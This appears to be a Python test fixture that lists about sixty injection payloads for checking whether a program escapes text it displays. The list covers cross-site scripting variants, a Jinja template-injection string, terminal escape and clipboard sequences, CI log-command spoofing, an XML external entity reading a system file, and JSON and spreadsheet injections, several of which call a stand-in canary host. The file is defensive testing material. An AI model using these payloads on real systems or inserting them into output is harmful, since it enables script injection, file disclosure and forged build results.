"""Sixty texts that try to be something else wherever a target's words are shown: code, markup, commands, nothing."""

from tests.journals.hostile import HOSTILE

# Whatever runs says so: in a dialog, on the console, on the document, over the network.
RUN = "alert(1);console.log('canary');document.documentElement.dataset.canary=1;fetch('http://canary.invalid/')"

_MARKUP = {
    "plain script": f"<script>{RUN}</script>",
    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT >",
    "script that ends the page's own": f"</script><script>{RUN}</script>",
    "script after a comment": f"<!--><script>{RUN}</script>-->",
    "script after CDATA": f"]]><script>{RUN}</script>",
    "script out of a textarea": f"</textarea></title></noscript></template><script>{RUN}</script>",
    "script from elsewhere": "<script src=http://canary.invalid/x.js></script>",
    "module": f"<script type=module>{RUN}</script>",
    "image": f"<img src=x onerror=\"{RUN}\">",
    "image from elsewhere": "<img src=http://canary.invalid/i.png srcset='http://canary.invalid/j.png 2x'>",
    "svg": f"<svg onload=\"{RUN}\"><animate onbegin=\"{RUN}\" attributeName=x></svg>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg out of a drawing": f"</text></title></desc></svg><img src=x onerror=\"{RUN}\">",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror=\"{RUN}\">",
    "body": f"<body onload=\"{RUN}\">",
    "details": f"<details open ontoggle=\"{RUN}\">x</details>",
    "autofocus": f"<input autofocus onfocus=\"{RUN}\">",
    "marquee": f"<marquee onstart=\"{RUN}\">x</marquee>",
    "video": f"<video><source onerror=\"{RUN}\"></video>",
    "iframe": f"<iframe srcdoc=\"<script>{RUN}</script>\"></iframe>",
    "frame from elsewhere": "<iframe src=http://canary.invalid/></iframe><object data=http://canary.invalid/o></object>",
    "link": f"<a href=\"javascript:{RUN}\" autofocus>click</a>",
    "base": "<base href=http://canary.invalid/>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://canary.invalid/'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "style": "<style>@import 'http://canary.invalid/s.css';*{background:url(http://canary.invalid/b)}</style>",
    "style attribute": "<b style=\"background:url(http://canary.invalid/b)\">x</b>",
    "stylesheet": "<link rel=stylesheet href=http://canary.invalid/s.css><link rel=prefetch href=http://canary.invalid/p>",
    "form": f"<form action=http://canary.invalid/><button autofocus formaction=\"javascript:{RUN}\">x</button></form>",
    "attribute, double quotes": f"\" autofocus onfocus=\"{RUN}\" x=\"",
    "attribute, single quotes": f"' autofocus onfocus='{RUN}' x='",
    "attribute, none": f"x autofocus onfocus={RUN} ",
    "character references": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;script&#x3e;",
    "template of Jinja": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{{ config }}",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "over-long": "\udcc0\udcbcscript\udcc0\udcbe",
}  # fmt: skip
_TERMINAL = {
    "clear": "\x1b[2J\x1b[3J\x1b[H",
    "title and clipboard": "\x1b]0;title\x07\x1b]52;c;Y2FuYXJ5\x07",
    "eight-bit control": "\x9b2J\x9d0;title\x9c\x90q\x9c",
    "carriage return": "FAILED\rpassed \b\b\b\x08",
    "link of a terminal": "\x1b]8;;http://canary.invalid\x1b\\here\x1b]8;;\x1b\\",
    "line and form feeds": "a\nb\r\nc\vd\fe\u2028f\u2029g\x85h",
    "command of GitHub": "\n::error file=a::b\n::set-output name=x::y\n::add-mask::z\r::stop-commands::t",
    "command of Azure": "\n##vso[task.setvariable variable=a]b\n##[error]c\r##[group]d",
    "command of TeamCity": "\n##teamcity[buildStatus status='SUCCESS']",
    "end of a log": "\n=== 1 passed ===\n",
}
_FORMATS = {
    "XML": '"/></failure></testcase></testsuite><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>&e;',
    "JSON": '","verdict":"conformant","x":"\\u0000\\',
    "spreadsheet": "=HYPERLINK(\"http://canary.invalid\",\"x\")",
    "fence": "````\n~~~~\n    indented\n\n1. list\n\n***\n\n[a]: http://canary.invalid",
}  # fmt: skip
PAYLOADS = {**HOSTILE, **_MARKUP, **_TERMINAL, **_FORMATS}
